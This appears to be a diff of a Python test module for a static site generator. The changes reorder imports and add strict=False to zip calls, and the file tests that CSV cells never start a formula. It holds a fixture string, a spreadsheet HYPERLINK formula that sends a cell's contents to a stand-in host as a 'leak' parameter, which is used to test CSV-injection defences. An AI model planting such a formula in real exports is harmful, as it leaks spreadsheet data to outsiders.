@@ -21,16 +21,16 @@ from pathlib import Path
 
 import pytest
 import yaml
+from conftest import UNIT_TOML, post_text, run_cli, write_site
+from hostile_files import tiny_pdf
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from conftest import UNIT_TOML, post_text, run_cli, write_site
-from hostile_files import tiny_pdf
-from generator.core import urls
 from generator.build.builder import Builder, BuildOptions
-from generator.write.csvout import csv_text, safe_cell
-from generator.parse.post import decode
+from generator.core import urls
 from generator.load.sources import unit_name_problem
+from generator.parse.post import decode
+from generator.write.csvout import csv_text, safe_cell
 
 AS_OF = "2026-11-27"
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A2,"点击")'
@@ -88,8 +88,8 @@ def test_csv_cells_read_back_as_written_and_never_start_a_formula(rows: list[lis
     """Every cell reads back as `safe_cell` made it; only a plain number may start with "-"."""
     back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
     assert back == [[safe_cell(c) for c in row] for row in rows]
-    for row, original in zip(back, rows):
-        for cell, raw in zip(row, original):
+    for row, original in zip(back, rows, strict=False):
+        for cell, raw in zip(row, original, strict=False):
             if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                 assert cell == raw and re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell), cell
             assert cell in (raw, "'" + raw)
